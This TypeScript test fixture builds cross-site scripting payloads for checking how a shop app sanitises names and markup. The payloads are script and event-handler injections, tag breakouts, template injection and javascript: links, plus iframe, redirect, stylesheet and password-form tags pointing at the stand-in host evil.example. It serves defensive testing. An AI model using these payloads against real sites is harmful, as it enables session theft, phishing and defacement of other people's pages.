/** Markup that runs where a text gets into a page as it is; each sets a mark of its own, or is one. */
const payloads = [
  `<script>window.ranHostile=1</script>`,
  `"><img src=/none onerror="window.ranHostile=2">`,
  `</script><script>window.ranHostile=3</script>`,
  `'-window.ranHostile=4-'`,
  `<svg/onload=window.ranHostile=5>`,
  `</title></textarea></style><img src=/none onerror=window.ranHostile=6>`,
  `<!--</script><!--<script>window.ranHostile=7//`,
  `{{constructor.constructor('window.ranHostile=8')()}}`,
] as const;

/** What no page has by itself: a text that became markup left it, whatever kept the rest from running. */
export const hostileMark = "data-hostile";
const mark = `<i ${hostileMark}></i>`;
const half = payloads.length / 2;

/** All of them in two texts, which fit into names together with one. */
export const hostileTexts = [
  mark + payloads.slice(0, half).join(""),
  mark + payloads.slice(half).join(""),
] as const;

/** Each of them alone, as short as names of persons are. */
export const shortTexts = payloads.map((payload) => mark + payload);

/** Markup where markup is allowed: all of it may be seen, nothing may run, lead away or look like the shop. */
export const hostileMarkup = `<p>Seen <b>here</b></p>${hostileTexts.join("")}
<a href="javascript:window.ranHostile=9">one</a><a href="data:text/html,x">two</a><a href=" java\tscript:window.ranHostile=10">three</a>
<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><base href="https://evil.example/">
<form action="https://evil.example"><input name="password"><button formaction="javascript:window.ranHostile=11">go</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css">
<style>body{display:none}</style><p style="position:fixed;inset:0;background:url(https://evil.example)" onclick="window.ranHostile=12">styled</p>
<math><mtext><table><mglyph><style><img src=/none onerror=window.ranHostile=13></table></mtext></math>
<noscript><p title="</noscript><img src=/none onerror=window.ranHostile=14>"></noscript>`;

/** What most texts may be long. */
const longest = 255;

/** A name with one of the two texts in it, cut to fit beside that. */
export function hostileName(name: string, index: number): string {
  const text = hostileTexts[index % hostileTexts.length] ?? "";
  return `${name.slice(0, longest - text.length - 1)} ${text}`;
}
